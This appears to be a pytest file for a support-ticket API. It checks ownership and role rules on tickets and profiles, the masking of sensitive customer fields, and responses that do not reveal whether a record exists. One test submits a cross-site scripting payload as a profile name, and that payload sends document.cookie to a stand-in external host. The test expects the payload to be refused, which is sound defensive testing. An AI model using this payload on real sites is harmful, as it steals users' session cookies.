"""Changing tickets and profiles: only one's own, and only what the role may change."""

from __future__ import annotations

import pytest

from tests.server.conftest import Api


async def open_ticket(api: Api, key: str) -> str:
    r = await api.client.post(
        "/api/tickets",
        headers=api.auth(key),
        json={"subject": "Broken zipper", "description": "The zipper broke on day one."},
    )
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


async def test_customer_closes_own_ticket_but_not_anothers(api: Api) -> None:
    mine = await open_ticket(api, api.keys.alice)
    theirs = await open_ticket(api, api.keys.bob)
    r = await api.client.post(f"/api/tickets/{theirs}/close", headers=api.auth(api.keys.alice))
    assert r.status_code == 404
    assert r.json()["error"]["code"] == "ticket.not_found"
    bob_view = await api.client.get(f"/api/tickets/{theirs}", headers=api.auth(api.keys.bob))
    assert bob_view.json()["status"] == "open"
    r = await api.client.post(f"/api/tickets/{mine}/close", headers=api.auth(api.keys.alice))
    assert r.status_code == 200
    assert r.json()["status"] == "closed"


async def test_customer_cannot_patch_tickets_at_all(api: Api) -> None:
    mine = await open_ticket(api, api.keys.alice)
    r = await api.client.patch(
        f"/api/tickets/{mine}", headers=api.auth(api.keys.alice), json={"priority": "urgent"}
    )
    assert r.status_code == 403
    assert r.json()["error"]["code"] == "access.permission_denied"


async def test_support_agent_updates_any_ticket(api: Api) -> None:
    ticket = await open_ticket(api, api.keys.bob)
    r = await api.client.patch(
        f"/api/tickets/{ticket}",
        headers=api.auth(api.keys.agent),
        json={"status": "pending", "priority": "urgent"},
    )
    assert r.status_code == 200, r.text
    assert (r.json()["status"], r.json()["priority"]) == ("pending", "urgent")
    bob_view = await api.client.get(f"/api/tickets/{ticket}", headers=api.auth(api.keys.bob))
    assert bob_view.json()["priority"] == "urgent"


@pytest.mark.parametrize("body", [{"status": "deleted"}, {"owner": "cust-alice"}])
async def test_bad_ticket_changes_are_refused_and_change_nothing(
    api: Api, body: dict[str, str]
) -> None:
    ticket = await open_ticket(api, api.keys.bob)
    r = await api.client.patch(
        f"/api/tickets/{ticket}", headers=api.auth(api.keys.agent), json=body
    )
    assert r.status_code == 422
    bob_view = await api.client.get(f"/api/tickets/{ticket}", headers=api.auth(api.keys.bob))
    assert bob_view.json()["status"] == "open"


async def test_customer_changes_own_profile_only(api: Api) -> None:
    bob_before = (await api.client.get("/api/me", headers=api.auth(api.keys.bob))).json()
    r = await api.client.patch(
        "/api/me", headers=api.auth(api.keys.alice), json={"name": "Alice Liddell"}
    )
    assert r.status_code == 200, r.text
    assert r.json()["name"] == "Alice Liddell"
    assert r.json()["id"] == "cust-alice"
    bob_after = (await api.client.get("/api/me", headers=api.auth(api.keys.bob))).json()
    assert bob_after == bob_before


@pytest.mark.parametrize(
    "body",
    [{"customer_id": "cust-bob", "name": "Mallory"}, {"id": "cust-bob"}, {"email": "not-an-email"}],
)
async def test_profile_change_cannot_target_another_customer(
    api: Api, body: dict[str, str]
) -> None:
    bob_before = (await api.client.get("/api/me", headers=api.auth(api.keys.bob))).json()
    r = await api.client.patch("/api/me", headers=api.auth(api.keys.alice), json=body)
    assert r.status_code == 422
    assert (await api.client.get("/api/me", headers=api.auth(api.keys.bob))).json() == bob_before


async def test_profile_fields_are_guarded(api: Api) -> None:
    r = await api.client.patch(
        "/api/me",
        headers=api.auth(api.keys.alice),
        json={"name": "<script>document.location='https://x.example/?'+document.cookie</script>"},
    )
    assert r.status_code == 400
    assert r.json()["error"]["code"] == "input.blocked"


async def test_staff_see_customers_with_sensitive_fields_masked_unless_permitted(api: Api) -> None:
    bob = (await api.client.get("/api/me", headers=api.auth(api.keys.bob))).json()["customer"]
    agent = await api.client.get("/api/customers/cust-bob", headers=api.auth(api.keys.agent))
    assert agent.status_code == 200, agent.text
    assert agent.json()["name"] == bob["name"]
    assert agent.json()["email"] != bob["email"]
    assert agent.json()["email"].endswith("@" + bob["email"].split("@")[1])
    admin = await api.client.get("/api/customers/cust-bob", headers=api.auth(api.keys.admin))
    assert admin.json()["email"] == bob["email"]  # admin holds access:sensitive_data


async def test_customer_reaches_only_own_customer_record(api: Api) -> None:
    own = await api.client.get("/api/customers/cust-alice", headers=api.auth(api.keys.alice))
    assert own.status_code == 200
    other = await api.client.get("/api/customers/cust-bob", headers=api.auth(api.keys.alice))
    assert other.status_code == 404
    missing = await api.client.get("/api/customers/cust-zed", headers=api.auth(api.keys.admin))
    assert missing.status_code == 404
    assert other.json()["error"]["message"] == missing.json()["error"]["message"]
